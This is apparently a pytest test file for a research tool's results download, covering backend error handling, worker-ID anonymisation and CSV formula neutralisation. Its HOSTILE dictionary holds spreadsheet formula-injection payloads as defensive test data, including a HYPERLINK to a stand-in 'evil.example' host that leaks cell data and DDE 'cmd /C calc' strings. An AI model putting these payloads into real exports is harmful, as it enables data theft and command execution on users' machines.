"""`babe results`: the backend's data downloaded over real HTTP, checked, anonymised, written once.

Every failure of the backend (unknown experiment, inactive, no retrieval keys, bad password,
timeout, server error, malformed CSV) must give one line, its exit code, and no results file —
not even a partial one.
"""

from __future__ import annotations

import csv
import hashlib
import hmac
import io
import re
from datetime import UTC, datetime
from pathlib import Path

import pytest

from babe_tasks.testing import serve_backend, write_deploy_config

REPO = Path(__file__).resolve().parents[2]
PASSWORD = "results-password-123"
SALT = "lab-salt-0123456789abcdef"
NAME = re.compile(r"^exp1-\d{8}T\d{6}Z(-\d+)?\.csv$")


@pytest.fixture(autouse=True)
def backend_plugin(monkeypatch):
    """babe-backend from its entry point, as installed (the repository's plugins/ is its import root)."""
    monkeypatch.syspath_prepend(str(REPO / "plugins"))
    monkeypatch.setattr("babe_tasks.plugins.ENTRY_POINT_GROUP", "babe_tasks")
    monkeypatch.setenv("BABE_PLUGINS", "babe-backend")


@pytest.fixture
def backend():
    server, _ = serve_backend(password=PASSWORD)
    yield server
    server.shutdown()


@pytest.fixture
def experiment(tmp_path, monkeypatch, backend):
    folder = tmp_path / "exp1"
    folder.mkdir()
    write_section(folder, "{}")
    write_deploy_config(folder, experiment_id=12, server_app_url=f"{backend.url}/api/submit_experiment/")
    monkeypatch.chdir(folder)
    return folder


def write_section(folder: Path, section: str) -> None:
    (folder / "invoke.yaml").write_text(f"babe:\n  plugins:\n    babe-backend: {section}\n")


def trials(worker: str, assignment: str, hit: str, n: int = 3, **extra) -> list[dict]:
    return [
        {"trial_number": i, "response": ["yes", "no"][i % 2], "RT": 500 + i, "assignment_id": assignment,
         "worker_id": worker, "hit_id": hit, **extra}
        for i in range(1, n + 1)
    ]


@pytest.fixture
def data(backend):
    """Experiment 12 with three submissions; the retrieval keys are every trial key, in order."""
    fake = backend.backend
    fake.add_experiment(12, retrieval_keys=list(trials("W", "A", "H")[0]))
    fake.submit("12", trials("A1WORKERAAAAAA", "ASSIGN1", "HIT1"))
    fake.submit("12", trials("A2WORKERBBBBBB", "ASSIGN2", "HIT1", n=4))
    fake.submit("12", trials("A3WORKERCCCCCC", "ASSIGN3", "HIT2", n=2))
    return fake


def files(folder: Path) -> list[Path]:
    results = folder / "results"
    return sorted(results.iterdir()) if results.is_dir() else []


def rows_of(path: Path) -> list[dict]:
    return list(csv.DictReader(io.StringIO(path.read_text())))


# -- the two routes -----------------------------------------------------------------------------
def test_csv_route_with_basic_auth_writes_the_backends_csv(babe, experiment, data, monkeypatch):
    monkeypatch.setenv("BABE_BACKEND_USER", "admin")
    monkeypatch.setenv("BABE_BACKEND_PASSWORD", PASSWORD)
    run = babe("results", "--json")
    assert run.code == 0, run
    (path,) = files(experiment)
    assert NAME.match(path.name) and run.json["path"] == str(path)
    assert path.read_text() == data.csv_text("12")
    assert (run.json["rows"], run.json["submissions"], run.json["columns"]) == (9, 3, 7)
    assert run.json["column_names"][0] == "submission_id" and run.json["anonymized"] is False
    assert ("GET", "/experiments/12/retrieve", 200) in data.requests
    text = babe("results")
    assert text.code == 0
    assert re.fullmatch(r"Wrote results/exp1-\d{8}T\d{6}Z(-2)?\.csv: 9 rows, 3 submissions, 7 columns\.\n", text.out)


def test_json_route_gives_the_same_layout_as_the_csv(babe, experiment, data, monkeypatch):
    run = babe("results", "--json")
    assert run.code == 0, run
    assert ("GET", "/api/retrieve_experiment/12", 200) in data.requests
    assert not any(path.startswith("/experiments/") for _, path, _ in data.requests)  # no password: no CSV route
    (path,) = files(experiment)
    assert path.read_text() == data.csv_text("12")


def test_json_route_joins_lists_and_leaves_missing_values_empty(babe, experiment, backend):
    fake = backend.backend
    fake.add_experiment(12, retrieval_keys=["assignment_id", "choices", "flag", "missing"])
    fake.submit("12", [{"assignment_id": "A1", "choices": ["a", "b", "c"], "flag": True}])
    assert babe("results").code == 0
    (path,) = files(experiment)
    assert path.read_text() == "submission_id,assignment_id,choices,flag,missing\n1,A1,a|b|c,true,\n"


def test_older_servers_columns_from_the_first_trial_are_kept(babe, experiment, backend, monkeypatch):
    fake = backend.backend
    fake.union_columns = False
    fake.add_experiment(12)
    fake.submit("12", [{"a": 1, "b": 2}])
    fake.submit("12", [{"a": 3, "b": 4, "c": 5}])
    monkeypatch.setenv("BABE_BACKEND_USER", "admin")
    monkeypatch.setenv("BABE_BACKEND_PASSWORD", PASSWORD)
    run = babe("results", "--json")
    assert (run.code, run.json["columns"], run.json["rows"]) == (0, 3, 2)


def test_no_submissions_yet_writes_nothing(babe, experiment, backend):
    backend.backend.add_experiment(12, retrieval_keys=["assignment_id"])
    run = babe("results", "--json")
    assert run.code == 0
    assert run.json == {
        "path": None, "rows": 0, "submissions": 0, "columns": 0, "column_names": [], "anonymized": False,
        "neutralized": 0, "raw": False,
    }
    assert files(experiment) == []
    assert "No results for experiment exp1 yet: nothing was written." in babe("results").out


# -- never overwrite, never partial ---------------------------------------------------------------
def test_downloads_in_the_same_second_never_overwrite(experiment, data):
    from babe_tasks.plugins import plugin_manager
    from babe_tasks.settings import Settings
    from babe_tasks.steps import results

    settings = Settings.build(None)
    when = datetime(2026, 11, 28, 16, 0, 0, tzinfo=UTC)
    (experiment / "results").mkdir()
    keep = experiment / "results" / "exp1-20261128T160000Z.csv"
    keep.write_text("a lab's own file\n")
    first = results.run(settings, plugin_manager(settings), now=when)
    second = results.run(settings, plugin_manager(settings), now=when)
    assert (first.path.name, second.path.name) == ("exp1-20261128T160000Z-2.csv", "exp1-20261128T160000Z-3.csv")
    assert keep.read_text() == "a lab's own file\n"
    assert first.path.read_text() == second.path.read_text() == data.csv_text("12")
    assert {p.name for p in files(experiment)} == {keep.name, first.path.name, second.path.name}  # no .part, no .tmp


@pytest.mark.parametrize(
    "setup, code, words",
    [
        (lambda b, mp: b.experiments.pop("12"), 2, "experiment 12 does not exist on http://127.0.0.1:"),
        (lambda b, mp: setattr(b.experiments["12"], "retrieval_keys", []), 2, "has no dynamic retrieval keys (403)"),
        (lambda b, mp: setattr(b.experiments["12"], "retrieval_keys", []) or setattr(b.experiments["12"], "active", False),
         2, "experiment 12 is inactive on"),
        (lambda b, mp: mp.setenv("BABE_BACKEND_PASSWORD", "wrong"), 4, "refused user 'admin' with the password in BABE_BACKEND_PASSWORD (401)"),
        (lambda b, mp: setattr(b, "delay", 1.0), 4, "did not answer /api/retrieve_experiment/12 within 0.3s"),
        (lambda b, mp: setattr(b, "status_override", 500), 4, "answered /api/retrieve_experiment/{id} with HTTP 500"),
        (lambda b, mp: mp.setenv("BABE_BACKEND_PASSWORD", PASSWORD) or setattr(b, "csv_fault", "ragged"), 1,
         "answered a malformed CSV: line 3 has 45 fields, the header 7"),
        (lambda b, mp: mp.setenv("BABE_BACKEND_PASSWORD", PASSWORD) or setattr(b, "csv_fault", "truncated"), 1,
         "answered a malformed CSV (unexpected end of data)"),
        (lambda b, mp: mp.setenv("BABE_BACKEND_PASSWORD", PASSWORD) or setattr(b, "csv_fault", "html"), 1,
         "answered an HTML page, not CSV"),
        (lambda b, mp: mp.delenv("BABE_BACKEND_USER"), 2, "BABE_BACKEND_PASSWORD is set but no user name"),
    ],
    ids=["404-unknown", "403-no-keys", "403-inactive", "401-password", "timeout", "500", "ragged-csv",
         "truncated-csv", "html-login-page", "no-user"],
)
def test_backend_errors_are_one_line_with_their_exit_code_and_no_file(babe, experiment, data, monkeypatch, setup, code, words):
    write_section(experiment, "{timeout: 0.3}")
    monkeypatch.setenv("BABE_BACKEND_USER", "admin")
    if code == 4 and "401" in words or code == 2 and "no user" in words:
        monkeypatch.setenv("BABE_BACKEND_PASSWORD", PASSWORD)
    setup(data, monkeypatch)
    run = babe("results")
    assert run.code == code, run
    assert words in run.err, run
    assert run.err.startswith("error: plugin babe-backend: ") and len(run.err.strip().splitlines()) == 1
    assert run.out == ""
    assert files(experiment) == []  # nothing, not even a .part file
    as_json = babe("results", "--json")
    assert as_json.code == code and as_json.json["error"]["exit_code"] == code
    assert as_json.json["error"]["plugin"] == "babe-backend" and words in as_json.json["error"]["message"]


def test_an_unreachable_backend_is_exit_4(babe, experiment, data, backend):
    backend.shutdown()
    run = babe("results")
    assert run.code == 4 and "cannot reach the backend http://127.0.0.1:" in run.err
    assert files(experiment) == []


def test_without_the_plugin_configured_results_says_how(babe, experiment):
    (experiment / "invoke.yaml").write_text("babe: {}\n")
    run = babe("results", "--json")
    assert run.code == 2
    assert "turn on the babe-backend plugin with a babe.plugins.babe-backend section" in run.json["error"]["message"]


# -- anonymising ------------------------------------------------------------------------------------
def pseudonym(worker: str, salt: str = SALT) -> str:
    return "anon-" + hmac.new(salt.encode(), worker.encode(), hashlib.sha256).hexdigest()[:16]


def test_anonymize_replaces_worker_ids_everywhere_with_stable_pseudonyms(babe, experiment, data, monkeypatch):
    data.submit("12", trials("A4WORKERDDDDDD", "ASSIGN4", "HIT2", n=1, comments="my id is A4WORKERDDDDDD, thanks"))
    monkeypatch.setenv("BABE_ANONYMIZE_SALT", SALT)
    monkeypatch.setenv("BABE_BACKEND_USER", "admin")
    monkeypatch.setenv("BABE_BACKEND_PASSWORD", PASSWORD)  # the full CSV: the comments column too
    run = babe("results", "--anonymize", "--json")
    assert run.code == 0, run
    assert run.json["anonymized"] is True and run.json["rows"] == 10
    (path,) = files(experiment)
    text = path.read_text()
    for worker in ("A1WORKERAAAAAA", "A2WORKERBBBBBB", "A3WORKERCCCCCC", "A4WORKERDDDDDD"):
        assert worker not in text
    rows = rows_of(path)
    assert rows[0]["worker_id"] == pseudonym("A1WORKERAAAAAA")
    assert rows[-1]["comments"] == f"my id is {pseudonym('A4WORKERDDDDDD')}, thanks"
    assert [r["assignment_id"] for r in rows][:3] == ["ASSIGN1"] * 3  # only worker ids change
    again = babe("results", "--anonymize", "--json")
    assert rows_of(Path(again.json["path"])) == rows  # stable within the lab
    monkeypatch.setenv("BABE_ANONYMIZE_SALT", "another-lab-salt-0000")
    other = rows_of(Path(babe("results", "--anonymize", "--json").json["path"]))
    assert other[0]["worker_id"] != rows[0]["worker_id"]
    assert SALT not in run.out + run.err + text


def test_anonymize_also_replaces_worker_ids_the_ledger_knows(experiment, backend, monkeypatch):
    """A worker id only in a free-text answer (no worker_id column) is still found, through the ledger."""
    from babe_tasks.ledger import Ledger
    from babe_tasks.platform.base import AssignmentInfo
    from babe_tasks.plugins import plugin_manager
    from babe_tasks.settings import Settings
    from babe_tasks.steps import results

    backend.backend.add_experiment(12, retrieval_keys=["assignment_id", "comments"])
    backend.backend.submit("12", [{"assignment_id": "ASSIGN9", "comments": "I am A9LEDGERWORKER1"}])
    with Ledger(experiment) as ledger:
        ledger.record_assignments("exp1", "local", [AssignmentInfo("ASSIGN9", "HIT9", "A9LEDGERWORKER1", "Submitted")],
                                  lambda hit: (0, 0))
    monkeypatch.setenv("BABE_ANONYMIZE_SALT", SALT)
    settings = Settings.build(None)
    result = results.run(settings, plugin_manager(settings), anonymize=True)
    assert rows_of(result.path) == [{"submission_id": "1", "assignment_id": "ASSIGN9", "comments": f"I am {pseudonym('A9LEDGERWORKER1')}"}]


@pytest.mark.parametrize(
    "salt, words",
    [(None, "--anonymize needs the lab's salt in BABE_ANONYMIZE_SALT"), ("short", "BABE_ANONYMIZE_SALT is 5 characters long")],
)
def test_anonymize_without_a_usable_salt_stops_before_any_request(babe, experiment, data, monkeypatch, salt, words):
    if salt:
        monkeypatch.setenv("BABE_ANONYMIZE_SALT", salt)
    data.requests.clear()
    run = babe("results", "--anonymize")
    assert run.code == 2 and words in run.err
    assert data.requests == [] and files(experiment) == []
    assert "short" not in run.err.replace("characters long", "")


# -- formulas ----------------------------------------------------------------------------------------
HOSTILE = {
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")": "'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
    "@SUM(1+1)*cmd|' /C calc'!A0": "'@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1": "'+1+1",
    "-2+3+cmd|' /C calc'!A0": "'-2+3+cmd|' /C calc'!A0",
    "\t=1+1": "'\t=1+1",
    "\r=1+1": "'\r=1+1",
    "-5": "-5",
    "+3.2": "+3.2",
    "-1.5e3": "-1.5e3",
    "a = b": "a = b",
}


def test_cells_a_spreadsheet_would_run_are_neutralised_and_raw_keeps_the_bytes(babe, experiment, backend):
    fake = backend.backend
    fake.add_experiment(12, retrieval_keys=["assignment_id", "comment", "=cmd"])
    for number, answer in enumerate(HOSTILE):
        fake.submit("12", [{"assignment_id": f"ASSIGN{number}", "comment": answer}])
    fake.submit("12", [{"assignment_id": "ASSIGN-x", "comment": "fine", "=cmd": "x"}])  # a hostile key too

    run = babe("results", "--json")
    assert run.code == 0, run
    (path,) = files(experiment)
    read = list(csv.reader(io.StringIO(path.read_bytes().decode(), newline=""), strict=True))
    assert read[0] == ["submission_id", "assignment_id", "comment", "'=cmd"]
    assert [row[2] for row in read[1 : len(HOSTILE) + 1]] == list(HOSTILE.values())
    assert (run.json["neutralized"], run.json["raw"]) == (7, False)
    text = babe("results")
    assert "7 cell(s) a spreadsheet would run as a formula start with ' now (--raw keeps the backend's bytes)." in text.out

    raw = babe("results", "--raw", "--json")
    assert (raw.code, raw.json["neutralized"], raw.json["raw"]) == (0, 0, True)
    kept = list(csv.reader(io.StringIO(Path(raw.json["path"]).read_bytes().decode(), newline=""), strict=True))
    assert kept[0][3] == "=cmd" and [row[2] for row in kept[1 : len(HOSTILE) + 1]] == list(HOSTILE)


def test_a_file_without_formulas_keeps_the_backends_bytes(babe, experiment, data, monkeypatch):
    run = babe("results", "--json")
    assert (run.code, run.json["neutralized"]) == (0, 0)
    assert Path(run.json["path"]).read_text() == data.csv_text("12")


def test_a_backend_without_a_password_serves_results_without_retrieval_keys(babe, experiment, capsys):
    """The README's `babe local.backend` (no --password-env): no retrieval keys, an open CSV route."""
    server, _ = serve_backend()
    try:
        fake = server.backend
        fake.add_experiment(12)  # what local.backend does: no dynamic retrieval keys
        fake.submit("12", trials("A1WORKERAAAAAA", "ASSIGN1", "HIT1"))
        write_deploy_config(experiment, experiment_id=12, server_app_url=f"{server.url}/api/submit_experiment/")
        run = babe("results", "--json")
        assert run.code == 0, run
        assert ("GET", "/api/retrieve_experiment/12", 403) in fake.requests
        assert ("GET", "/experiments/12/retrieve", 200) in fake.requests
        assert Path(run.json["path"]).read_text() == fake.csv_text("12")
    finally:
        server.shutdown()
